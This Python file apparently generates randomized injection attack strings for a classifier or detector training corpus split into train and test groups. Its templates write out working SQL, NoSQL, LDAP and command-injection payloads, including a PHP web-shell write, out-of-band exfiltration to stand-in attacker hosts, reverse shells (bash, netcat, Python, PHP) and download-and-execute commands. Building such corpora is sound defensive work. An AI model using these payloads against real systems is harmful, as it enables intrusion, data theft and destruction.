"""Template grammars for the injection families: sqli, nosqli, ldapi, cmdi.

Each function is one *template group*: it returns the raw attack value (what the attacker puts
into one parameter) with randomized, realistic parameters. Whole groups are assigned to one
split, so a technique seen in ``test`` was not memorized from ``train``.
"""

from __future__ import annotations

import json
import random

from optimizer.tasks.corpus.common import (
    ATTACKER_HOSTS,
    ATTACKER_IPS,
    COLUMNS,
    SECRETS_FILES,
    TABLES,
    Template,
    pick,
    rand_int,
    rand_word,
    vpick,
)

# ---------------------------------------------------------------- sqli

_Q = ("'", '"', "')", "'))", "", '")')
_CMT = ("-- -", "--", "#", "/*", "-- ", ";--", "")


def sqli_tautology(r: random.Random) -> str:
    a = rand_int(r, 1, 99)
    cond = vpick(r, (f"{a}={a}", f"'{a}'='{a}'", "'a'='a'", "true", f"{a}>{a - 1}",
                     "'x' LIKE 'x'", f"{a} BETWEEN {a - 1} AND {a + 1}"))
    op = pick(r, ("OR", "or", "||", "Or"))
    head = pick(r, ("admin", rand_word(r), str(a), ""))
    return f"{head}{pick(r, _Q[:3])} {op} {cond}{pick(r, _CMT)}"


def sqli_union(r: random.Random) -> str:
    n = r.randint(2, 7)
    cols = [pick(r, ("NULL", "null", str(i + 1))) for i in range(n)]
    cols[r.randrange(n)] = vpick(r, ("@@version", "version()", "user()", "database()",
                                     f"{pick(r, COLUMNS)}", "group_concat(table_name)",
                                     f"concat({pick(r, COLUMNS)},0x3a,{pick(r, COLUMNS)})"))
    src = pick(r, (f" FROM {pick(r, TABLES)}", " FROM information_schema.tables",
                   " FROM information_schema.columns WHERE table_schema=database()", ""))
    all_ = pick(r, (" ALL", "", ""))
    pre = pick(r, ("-1'", "0'", "1'", str(rand_int(r)), "-1", "x')"))
    return f"{pre} UNION{all_} SELECT {','.join(cols)}{src}{pick(r, _CMT)}"


def sqli_stacked(r: random.Random) -> str:
    stmt = vpick(r, (f"DROP TABLE {pick(r, TABLES)}",
                     f"UPDATE {pick(r, TABLES)} SET role='admin' WHERE id={rand_int(r)}",
                     f"INSERT INTO {pick(r, TABLES)} VALUES('hacker','{rand_word(r)}')",
                     "EXEC xp_cmdshell 'whoami'",
                     f"DELETE FROM {pick(r, TABLES)}",
                     "SHUTDOWN",
                     f"CREATE USER hacker{rand_int(r, 1, 99)} IDENTIFIED BY 'pw'"))
    return f"{rand_int(r)}{pick(r, _Q[:3])}; {stmt}{pick(r, _CMT)}"


def sqli_time_blind(r: random.Random) -> str:
    s = r.randint(3, 15)
    body = vpick(r, (f"AND SLEEP({s})", f"AND (SELECT {rand_int(r)} FROM (SELECT(SLEEP({s})))a)",
                     f"WAITFOR DELAY '0:0:{s}'", f"AND pg_sleep({s})",
                     f"OR IF(1=1,SLEEP({s}),0)", f"AND BENCHMARK({s}000000,MD5(1))",
                     f"AND 1=(SELECT 1 FROM PG_SLEEP({s}))",
                     f"AND DBMS_PIPE.RECEIVE_MESSAGE('a',{s})=1"))
    return f"{rand_int(r)}{pick(r, _Q[:3])} {body}{pick(r, _CMT)}"


def sqli_boolean_blind(r: random.Random) -> str:
    pos, ch = r.randint(1, 12), r.randint(48, 122)
    col, tab = pick(r, COLUMNS), pick(r, TABLES)
    body = vpick(r, (
        f"AND ASCII(SUBSTRING((SELECT {col} FROM {tab} LIMIT 1),{pos},1))>{ch}",
        f"AND SUBSTR((SELECT {col} FROM {tab} WHERE rownum=1),{pos},1)='{chr(ch)}'",
        f"AND (SELECT COUNT(*) FROM {tab})>{rand_int(r, 1, 50)}",
        f"AND LENGTH(database())={r.randint(3, 12)}",
        f"AND MID(version(),1,1)='{r.randint(4, 8)}'"))
    return f"{rand_int(r)}{pick(r, _Q[:2])} {body}{pick(r, _CMT)}"


def sqli_error_based(r: random.Random) -> str:
    body = vpick(r, ("AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))",
                     "AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
                     f"AND 1=CONVERT(int,(SELECT TOP 1 {pick(r, COLUMNS)} FROM {pick(r, TABLES)}))",
                     "AND 1=CAST((SELECT version()) AS int)",
                     "AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
                     "FROM information_schema.tables GROUP BY x)a)"))
    return f"{rand_int(r)}{pick(r, _Q[:2])} {body}{pick(r, _CMT)}"


def sqli_login_bypass(r: random.Random) -> str:
    user = pick(r, ("admin", "administrator", "root", "test", "guest"))
    return vpick(r, (f"{user}'--", f"{user}' #", f"{user}'/*", f"{user}') -- -",
                     f"' OR username='{user}'--", f"{user}' OR '1'='1'--"))


def sqli_order_probe(r: random.Random) -> str:
    return vpick(r, (f"{rand_int(r)} ORDER BY {r.randint(1, 20)}-- -",
                     f"{rand_word(r)}' GROUP BY {r.randint(1, 9)}--",
                     f"{rand_int(r)}' ORDER BY {r.randint(1, 20)}#",
                     f"name,(SELECT 1 FROM {pick(r, TABLES)})"))


def sqli_oob(r: random.Random) -> str:
    h = pick(r, ATTACKER_HOSTS)
    return vpick(r, (f"1'; EXEC master..xp_dirtree '\\\\{h}\\a'--",
                     f"1' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.{h}\\\\a'))-- -",
                     f"1' AND UTL_HTTP.REQUEST('http://{h}/'||(SELECT user FROM dual))=1--",
                     f"'; COPY (SELECT '') TO PROGRAM 'nslookup {h}'--"))


def sqli_file(r: random.Random) -> str:
    return vpick(r, (f"1' UNION SELECT LOAD_FILE('{pick(r, SECRETS_FILES)}'),2-- -",
                     f"1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE "
                     f"'/var/www/html/{rand_word(r)}.php'-- -",
                     f"1'; SELECT pg_read_file('{pick(r, SECRETS_FILES)}')--"))


def sqli_numeric(r: random.Random) -> str:
    n = rand_int(r)
    return vpick(r, (f"{n} OR 1=1", f"{n} AND 1=0 UNION SELECT 1,2,3", f"{n}-0 OR {n}={n}",
                     f"{n} OR true", f"({n}) OR (1)=(1)", f"{n} AND 1=1", f"-{n} OR 2>1"))


# ---------------------------------------------------------------- nosqli

_MOPS = ("$ne", "$gt", "$regex", "$nin", "$exists", "$gte", "$where", "$in")


def nosqli_operator_json(r: random.Random) -> str:
    user = pick(r, ("admin", "root", "alice", {"$ne": None}, {"$gt": ""}))
    pw = vpick(r, ({"$ne": pick(r, ("", "x", None))}, {"$gt": ""}, {"$regex": ".*"},
                   {"$exists": True}, {"$nin": ["a", "b"]}))
    return json.dumps({pick(r, ("username", "user", "login", "email")): user,
                       pick(r, ("password", "pass", "pwd")): pw}, separators=(",", pick(r, (":",
                                                                                            ": "))))


def nosqli_query_operator(r: random.Random) -> str:
    f1 = pick(r, ("username", "user", "email", "login"))
    f2 = pick(r, ("password", "pass", "pin"))
    op = vpick(r, _MOPS[:5])
    val = {"$ne": pick(r, ("1", "x", "")), "$gt": "", "$regex": pick(r, ("^a", ".*", "^adm")),
           "$nin": "", "$exists": "true"}[op]
    return pick(r, (f"{f1}[{op}]={val}&{f2}[$ne]=x",
                    f"{f1}={pick(r, ('admin', 'root'))}&{f2}[{op}]={val}",
                    f"{f1}[{op}]={val}"))


def nosqli_where_js(r: random.Random) -> str:
    s = r.randint(2, 10)
    return vpick(r, ("'; return true; var x='", f"1'; sleep({s}000); var a='",
                     "' || '1'=='1", f"{{\"$where\": \"sleep({s}000) || true\"}}",
                     "{\"$where\": \"this.password.match(/^a/)\"}",
                     "'; while(true){}; var y='", "this.isAdmin == true || '1'=='1",
                     "{\"$where\": \"function(){return this.role == 'admin'}\"}"))


def nosqli_regex_extract(r: random.Random) -> str:
    pre = "".join(pick(r, "abcdefghijklmnop0123") for _ in range(r.randint(0, 4)))
    return vpick(r, (f'{{"username":"admin","password":{{"$regex":"^{pre}"}}}}',
                     f"password[$regex]=^{pre}.*&username=admin",
                     f'{{"token":{{"$regex":"^{pre}","$options":"i"}}}}'))


def nosqli_js_injection(r: random.Random) -> str:
    return vpick(r, ("db.users.find({})", "'; db.dropDatabase(); var x='",
                     f"{rand_int(r)}; return db.getCollectionNames()",
                     "';this.constructor.constructor('return process')().exit();'",
                     "admin' && this.password.length > 0 && '1'=='1",
                     f"{{\"$function\":{{\"body\":\"function(){{sleep({r.randint(2, 9)}000)}}\","
                     f"\"args\":[],\"lang\":\"js\"}}}}"))


def nosqli_aggregate(r: random.Random) -> str:
    return vpick(r, ('[{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"u"}}]',
                     '{"$or":[{},{"a":"a"}]}', '{"filter":{"$where":"1==1"}}',
                     f'{{"id":{{"$in":[{rand_int(r)},{{"$ne":0}}]}}}}',
                     '{"username":{"$exists":true},"role":{"$ne":"user"}}',
                     '{"$expr":{"$eq":[1,1]}}'))


# ---------------------------------------------------------------- ldapi

_LATTR = ("uid", "cn", "mail", "sn", "userPassword", "objectClass", "memberOf", "givenName")


def ldapi_wildcard_bypass(r: random.Random) -> str:
    u = pick(r, ("admin", "jsmith", "root", "svc_web"))
    return vpick(r, (f"{u}*)(objectClass=*", "*)(&", "*)(|(&", f"{u}*)(|(uid=*",
                     "*)(uid=*))(|(uid=*", f"*)({pick(r, _LATTR)}=*"))


def ldapi_filter_inject(r: random.Random) -> str:
    u = pick(r, ("admin", "administrator", "jdoe", "root", "svc_backup"))
    return vpick(r, (f"{u})(&)", f"{u})(|(password=*))", f"{u})(!(objectClass=void))",
                     f"{u})(|(objectClass=*)", f"*)(|({pick(r, _LATTR)}=*)",
                     f"{u}))(|(cn=*", f"{u})(userPassword=*)", f"{u})(%00"))


def ldapi_attr_enum(r: random.Random) -> str:
    a = pick(r, _LATTR)
    c = pick(r, "abcdefghijklmnopqrstuvwxyz0123456789")
    return vpick(r, (f"*)({a}={c}*", f"admin)({a}={c}*)", f"*))(|({a}={c}*",
                     "x*)(|(memberOf=cn=Domain Admins,*))", f"*)(description={c}*"))


def ldapi_or_chain(r: random.Random) -> str:
    return vpick(r, ("(|(uid=*)(cn=*))", "admin)(|(uid=*))(&(uid=x", "(&(uid=*)(userPassword=*))",
                     "*))%00", "(|(objectClass=*)(objectClass=users))", "x)(|(cn=admin*)"))


def ldapi_blind_boolean(r: random.Random) -> str:
    a = pick(r, ("userPassword", "mail", "telephoneNumber", "description"))
    c = pick(r, "abcdefghijklmnopqrstuvwxyz0123456789")
    u = pick(r, ("admin", "jsmith", "svc_ldap", "helpdesk"))
    return vpick(r, (f"{u})(&({a}={c}*)", f"{u})(!({a}={c}*))", f"{u})(|({a}>={c})",
                     f"{u}*)(&(objectClass=person)({a}={c}*"))


def ldapi_auth_bypass(r: random.Random) -> str:
    return vpick(r, ("*)(&(objectClass=*", "admin)(&(password=*)", "*)(|(userPassword=*)",
                     f"{pick(r, ('admin', 'root', 'manager'))})(|(&)", "*)%00",
                     "*)(cn=*))(|(cn=*", f"cn={pick(r, ('admin', 'root'))})(|(cn=*"))


# ---------------------------------------------------------------- cmdi

_SEP = (";", "|", "||", "&&", "&", "%0a", "\n", "`", "$(")
_CMDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "pwd", "hostname",
         "ps aux", "cat /etc/shadow", "env", "ifconfig", "net user", "ver", "type C:\\boot.ini",
         "dir C:\\")


def _wrap_cmd(r: random.Random, cmd: str) -> str:
    sep = pick(r, _SEP)
    if sep == "`":
        return f"`{cmd}`"
    if sep == "$(":
        return f"$({cmd})"
    return f"{sep}{pick(r, ('', ' '))}{cmd}"


def cmdi_separator(r: random.Random) -> str:
    base = pick(r, ("127.0.0.1", "8.8.8.8", "example.com", rand_word(r), f"{rand_int(r)}", ""))
    return f"{base}{_wrap_cmd(r, vpick(r, _CMDS))}"


def cmdi_reverse_shell(r: random.Random) -> str:
    ip, port = pick(r, ATTACKER_IPS), r.randint(1024, 65000)
    body = vpick(r, (f"bash -i >& /dev/tcp/{ip}/{port} 0>&1", f"nc -e /bin/sh {ip} {port}",
                     f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
                     f"python3 -c 'import socket,os,pty;s=socket.socket();"
                     f"s.connect((\"{ip}\",{port}));"
                     f"[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
                     f"php -r '$s=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"))
    return f"{pick(r, ('127.0.0.1', 'x', ''))}{pick(r, (';', '|', '&&'))} {body}"


def cmdi_download_exec(r: random.Random) -> str:
    h = pick(r, ATTACKER_HOSTS + ATTACKER_IPS)
    f = pick(r, ("x.sh", "m", "bot", "run.sh", "k.py"))
    body = vpick(r, (f"wget http://{h}/{f} -O /tmp/{f}; sh /tmp/{f}", f"curl -s http://{h}/{f}|sh",
                     f"curl http://{h}/{f} -o /tmp/{f} && chmod +x /tmp/{f} && /tmp/{f}",
                     f"powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://{h}/{f}')\"",
                     f"certutil -urlcache -split -f http://{h}/{f}.exe C:\\Windows\\Temp\\{f}.exe"))
    return f"{pick(r, ('1', 'test', 'a.jpg', ''))}{pick(r, (';', '|', '&&', '%0a'))}{body}"


def cmdi_subshell(r: random.Random) -> str:
    cmd = pick(r, _CMDS[:9])
    h = pick(r, ATTACKER_HOSTS)
    return vpick(r, (f"$({cmd})", f"`{cmd}`", f"{rand_word(r)}$(sleep {r.randint(3, 12)})",
                     f"x`ping -c {r.randint(3, 10)} 127.0.0.1`", f"$(nslookup $(whoami).{h})",
                     f"{rand_word(r)}.txt$(curl {h}/$(id|base64))"))


def cmdi_blind(r: random.Random) -> str:
    s = r.randint(3, 20)
    return vpick(r, (f"; sleep {s}", f"| ping -c {s} 127.0.0.1", f"& ping -n {s} 127.0.0.1 &",
                     f"|| sleep {s} ||", f"%0asleep {s}%0a", f"; timeout /T {s}",
                     f"& nslookup {pick(r, ATTACKER_HOSTS)} &"))


def cmdi_arg_inject(r: random.Random) -> str:
    return vpick(r, (f"--output=/var/www/html/{rand_word(r)}.php",
                     "-oProxyCommand=sh -c 'id>/tmp/pwn'",
                     f"--exec=sh -c id {rand_word(r)}",
                     "-o /dev/null --post-file=/etc/passwd http://" + pick(r, ATTACKER_HOSTS),
                     "x -exec /bin/sh -c id ;",
                     "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"))


def cmdi_windows(r: random.Random) -> str:
    return vpick(r, (f"{rand_word(r)} & {pick(r, ('dir', 'whoami', 'ipconfig /all', 'net user'))}",
                     "| type " + pick(r, ("C:\\boot.ini", "C:\\Windows\\win.ini")),
                     "& cmd.exe /c whoami", "| powershell -enc SQBFAFgA",
                     f"&& net user hacker{r.randint(1, 99)} P@ss /add"))


INJECTION_TEMPLATES: dict[str, list[tuple[str, Template]]] = {
    "sqli": [("tautology", sqli_tautology), ("union", sqli_union), ("stacked", sqli_stacked),
             ("time_blind", sqli_time_blind), ("boolean_blind", sqli_boolean_blind),
             ("error_based", sqli_error_based), ("login_bypass", sqli_login_bypass),
             ("order_probe", sqli_order_probe), ("oob", sqli_oob), ("file_rw", sqli_file),
             ("numeric", sqli_numeric)],
    "nosqli": [("operator_json", nosqli_operator_json), ("query_operator", nosqli_query_operator),
               ("where_js", nosqli_where_js), ("regex_extract", nosqli_regex_extract),
               ("aggregate", nosqli_aggregate), ("js_injection", nosqli_js_injection)],
    "ldapi": [("wildcard_bypass", ldapi_wildcard_bypass), ("filter_inject", ldapi_filter_inject),
              ("attr_enum", ldapi_attr_enum), ("or_chain", ldapi_or_chain),
              ("blind_boolean", ldapi_blind_boolean), ("auth_bypass", ldapi_auth_bypass)],
    "cmdi": [("separator", cmdi_separator), ("reverse_shell", cmdi_reverse_shell),
             ("download_exec", cmdi_download_exec), ("subshell", cmdi_subshell),
             ("blind", cmdi_blind), ("arg_inject", cmdi_arg_inject), ("windows", cmdi_windows)],
}
